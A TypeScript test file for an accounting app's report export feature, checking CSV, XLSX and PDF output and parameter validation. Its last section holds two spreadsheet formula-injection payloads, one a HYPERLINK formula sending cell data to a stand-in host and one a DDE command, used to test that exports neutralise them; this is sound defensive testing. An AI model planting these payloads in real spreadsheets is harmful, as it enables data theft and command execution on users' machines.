import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../testing';
import { seedQuarter, pdfText } from './fixtures';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
  await seedQuarter(t);
});
afterAll(() => t.close());

const Q = 'startDate=2026-04-01&endDate=2026-06-30';
const exported = (query: string) =>
  t.app.inject({ method: 'GET', url: `/api/v1/reports/export?${query}`, headers: t.orgHeaders });
const json = async (path: string) =>
  (await t.app.inject({ method: 'GET', url: `/api/v1/reports/${path}`, headers: t.orgHeaders })).json().data;
const company = () => t.demo.organizations[0]?.name as string;

const money = (cents: number) => {
  const abs = Math.abs(cents);
  const text = `${Math.floor(abs / 100).toLocaleString('en-US')}.${String(abs % 100).padStart(2, '0')}`;
  return cents < 0 ? `(${text})` : text;
};

/** Simple CSV rows (the export quotes fields with commas, quotes and line ends). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') {
      quoted = false;
    } else if (quoted) {
      cell += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

describe('report export', () => {
  it('writes the trial balance as CSV whose rows are the JSON report’s', async () => {
    const res = await exported('report=trial-balance&format=csv&endDate=2026-06-30');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="trial-balance-2026-06-30.csv"');
    const tb = await json('trial-balance?endDate=2026-06-30');
    const rows = csvRows(res.body);
    expect(rows[0]).toEqual([`${company()}: Trial balance`]);
    expect(rows[1]).toEqual(['Through 2026-06-30']);
    expect(rows[2]).toEqual(['Account', 'Debit', 'Credit']);
    const lines = rows.slice(4, 4 + tb.rows.length);
    expect(lines).toEqual(
      tb.rows.map((r: { code: string; name: string; debitCents: number; creditCents: number }) => [
        `  ${r.code} ${r.name}`,
        (r.debitCents / 100).toFixed(2),
        (r.creditCents / 100).toFixed(2),
      ]),
    );
    expect(rows[4 + tb.rows.length]).toEqual([
      'Total',
      (tb.totalDebitCents / 100).toFixed(2),
      (tb.totalCreditCents / 100).toFixed(2),
    ]);
  });

  it('writes an XLSX whose amounts are numbers in a currency format and whose totals are formulas', async () => {
    const res = await exported(`report=profit-and-loss&format=xlsx&${Q}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0] as ExcelJS.Worksheet;
    expect(sheet.getCell('A1').value).toBe(`${company()}: Profit and loss`);
    expect(sheet.getCell('A2').value).toBe('2026-04-01 to 2026-06-30');
    const pnl = await json(`profit-and-loss?${Q}`);
    const byLabel = new Map<string, ExcelJS.Cell>();
    sheet.eachRow((row) => byLabel.set(String(row.getCell(1).value).trim(), row.getCell(2)));
    const sales = byLabel.get('4000 Sales') as ExcelJS.Cell;
    expect(sales.value).toBe(pnl.income.accounts[0].amountCents / 100);
    expect(sales.numFmt).toBe('#,##0.00;[Red]-#,##0.00');
    const totalIncome = byLabel.get('Total income')?.value as ExcelJS.CellFormulaValue;
    expect(totalIncome.formula).toMatch(/^SUM\(B\d+:B\d+\)$/);
    expect(totalIncome.result).toBe(pnl.income.totalCents / 100);
    const net = byLabel.get('Net income')?.value as ExcelJS.CellFormulaValue;
    expect(net.formula).toMatch(/^B\d+-B\d+\+B\d+-B\d+$/);
    expect(net.result).toBe(pnl.netIncomeCents / 100);
    // The formulas add what they say: evaluate them from the cells they name.
    const valueAt = (ref: string): number => {
      const v = sheet.getCell(ref).value;
      return typeof v === 'number' ? v : ((v as ExcelJS.CellFormulaValue).result as number);
    };
    const evaluate = (formula: string): number => {
      const sum = /^SUM\(B(\d+):B(\d+)\)$/.exec(formula);
      if (sum) {
        let total = 0;
        for (let r = Number(sum[1]); r <= Number(sum[2]); r++) total += valueAt(`B${r}`);
        return Math.round(total * 100) / 100;
      }
      return [...formula.matchAll(/([+-]?)B(\d+)/g)].reduce(
        (n, m) => n + (m[1] === '-' ? -1 : 1) * valueAt(`B${m[2]}`),
        0,
      );
    };
    expect(evaluate(totalIncome.formula)).toBe(pnl.income.totalCents / 100);
    expect(Math.round(evaluate(net.formula) * 100)).toBe(pnl.netIncomeCents);
  });

  it('writes a PDF statement whose text carries the company, the period, every account and the totals', async () => {
    const res = await exported(`report=balance-sheet&format=pdf&endDate=2026-06-30`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
    const [page] = await pdfText(res.rawPayload);
    const bs = await json('balance-sheet?endDate=2026-06-30');
    expect(page).toContain(`${company()}: Balance sheet`);
    expect(page).toContain('As of 2026-06-30');
    expect(page).toContain('Page 1 of 1');
    for (const a of [...bs.assets.accounts, ...bs.liabilities.accounts]) {
      expect(page).toContain(`${a.code} ${a.name}`);
      expect(page).toContain(money(a.balanceCents));
    }
    expect(page).toContain('Total liabilities and equity');
    expect(page).toContain(money(bs.totalLiabilitiesAndEquityCents));
  });

  it('exports the financial packet in all three formats, with its comparison columns', async () => {
    const pdf = await exported(`report=financial-packet&format=pdf&${Q}`);
    const pages = await pdfText(pdf.rawPayload);
    expect(pages.length).toBeGreaterThanOrEqual(6);
    expect(pages[0]).toContain('Prior period');
    expect(pages.join(' ')).toContain('Net cash from operating activities');
    expect(pages.at(-1)).toContain(`Page ${pages.length} of ${pages.length}`);
    // The chart page, before the twelve months' table: titles, legends and axes drawn as text.
    const charts = pages.find((p) => p.includes('Cash balance at month end')) ?? '';
    for (const text of ['Twelve months', 'Income, expenses and net income by month', 'Net income', 'Month', 'Amount'])
      expect(charts).toContain(text);
    for (const text of ['Jul 25', 'Jan 26', 'Jun 26', '60,000']) expect(charts).toContain(text);

    const xlsx = await exported(`report=financial-packet&format=xlsx&${Q}`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    expect(book.worksheets.map((s) => s.name)).toEqual([
      'Profit and loss',
      'Balance sheet',
      'Cash flows',
      'Trial balance',
      'Accounts receivable aging',
      'Accounts payable aging',
      'Twelve months',
    ]);
    expect(book.worksheets[0]?.getRow(4).values).toEqual([
      undefined,
      'Account',
      'Current',
      'Prior period',
      'Prior year',
    ]);

    const csv = await exported(`report=financial-packet&format=csv&${Q}`);
    const packet = (await json(`financial-packet?${Q}`)) as { cashFlow: { netChangeInCashCents: number } };
    const row = csvRows(csv.body).find((r) => r[0] === 'Net change in cash');
    expect(row?.[1]).toBe((packet.cashFlow.netChangeInCashCents / 100).toFixed(2));
  });

  it('refuses an unknown report or format, or bad report parameters, with 400 in the error shape', async () => {
    for (const query of [
      'report=balance&format=pdf',
      'report=trial-balance&format=docx',
      'report=trial-balance',
      'report=profit-and-loss&format=pdf&startDate=2026-07-01&endDate=2026-06-30',
      'report=general-ledger&format=csv&endDate=2026-02-30',
      'report=general-ledger&format=csv&accountId=nope',
      'report=ar-aging&format=xlsx&asOf=someday',
    ]) {
      const res = await exported(query);
      expect(res.statusCode, query).toBe(400);
      expect(res.headers['content-type'], query).toContain('application/json');
      expect(res.json().error.code, query).toBe('VALIDATION_ERROR');
    }
  });

  it('ignores query parameters it does not know, as every route does', async () => {
    const plain = await exported('report=trial-balance&format=csv&endDate=2026-06-30');
    for (const extra of ['minorversion=75', 'endDte=2026-01-31', 'Format=pdf&x=']) {
      const res = await exported(`report=trial-balance&format=csv&endDate=2026-06-30&${extra}`);
      expect(res.statusCode, `${extra}: ${res.body}`).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.body).toBe(plain.body);
    }
  });
});

describe('CSV cells never start a formula', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B5,"x")';
  const COMMAND = "+cmd|' /C calc'!A0";

  it('neutralises a customer name in the AR aging and a description in the general ledger, indented or not', async () => {
    const post = (url: string, payload: object) =>
      t.app.inject({
        method: 'POST',
        url,
        headers: { ...t.orgHeaders, 'idempotency-key': `csv-${url}-${JSON.stringify(payload).length}` },
        payload,
      });
    const customer = (await post('/api/v1/contacts', { kind: 'customer', name: HYPERLINK })).json().data.id;
    const invoice = await post('/api/v1/invoices', {
      contactId: customer,
      date: '2026-05-01',
      dueDate: '2026-05-31',
      lines: [{ accountId: t.account('4000'), quantity: 1, unitPriceCents: 12_345 }],
    });
    expect(invoice.statusCode, invoice.body).toBe(201);
    const purchase = await post(`/api/v1/companies/${t.orgId}/purchases`, {
      date: '2026-05-02',
      sourceAccountId: t.account('1000'),
      amountCents: 999,
      categoryAccountId: t.account('6300'),
      description: COMMAND,
    });
    expect(purchase.statusCode, purchase.body).toBe(201);

    const cells = async (query: string) => {
      const res = await exported(query);
      expect(res.statusCode, res.body).toBe(200);
      return csvRows(res.body).flat();
    };
    // A negative amount is a number, not a formula.
    const dangerous = (cell: string) => /^[ \u00a0]*[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);
    for (const query of ['report=ar-aging&format=csv&asOf=2026-06-30', `report=general-ledger&format=csv&${Q}`]) {
      const all = await cells(query);
      expect(
        all.filter(dangerous).map((c) => JSON.stringify(c)),
        query,
      ).toEqual([]);
    }
    const aging = await cells('report=ar-aging&format=csv&asOf=2026-06-30');
    expect(
      aging.some((c) => c.trimStart() === `'${HYPERLINK}` || c === `'  ${HYPERLINK}` || c.endsWith(HYPERLINK)),
    ).toBe(true);
    const ledger = await cells(`report=general-ledger&format=csv&${Q}`);
    expect(ledger.some((c) => c.includes(COMMAND) && c.startsWith("'"))).toBe(true);
  });

  it('keeps names and descriptions as text cells in XLSX, never formulas', async () => {
    const res = await exported('report=ar-aging&format=xlsx&asOf=2026-06-30');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const found: ExcelJS.Cell[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (String(cell.value).includes('HYPERLINK')) found.push(cell);
        }),
      ),
    );
    expect(found.length).toBeGreaterThan(0);
    for (const cell of found) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
  });
});
